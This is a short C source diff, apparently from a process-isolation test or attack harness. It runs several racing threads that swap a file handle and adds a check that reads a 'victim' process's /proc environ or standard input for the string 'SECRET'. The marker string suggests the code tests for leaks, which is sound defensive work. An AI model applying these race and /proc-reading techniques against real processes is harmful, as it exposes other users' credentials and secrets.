@@ -46,7 +46,7 @@ static int handle_race(void) {
     pthread_t thread;
     moving = dup(outside);
     swapping = 1;
-    pthread_create(&thread, NULL, swap_handle, &outside);
+    for (int i = 0; i < racers(); i++) pthread_create(&thread, NULL, swap_handle, &outside);
     int won = 0;
     signal(SIGUSR1, SIG_IGN);
     for (int i = 0; i < tries() && !won; i++) {
@@ -86,6 +86,12 @@ static int at_victim(const char *way) {
         CPU_ZERO(&set);
         CPU_SET(0, &set);
         return sched_setaffinity(victim, sizeof set, &set) == 0;
+    }
+    if (!strcmp(way, "environment") || !strcmp(way, "standard input")) {
+        char name[64], text[4096] = "";
+        snprintf(name, sizeof name, "/proc/%d/%s", victim, *way == 'e' ? "environ" : "fd/0");
+        ssize_t got = read(open(name, O_RDONLY | O_NONBLOCK), text, sizeof text);
+        return got > 0 && memmem(text, got, "SECRET", 6) != NULL;
     }
     if (!strcmp(way, "score")) return written("oom_score_adj", "900");
     if (!strcmp(way, "memory")) {
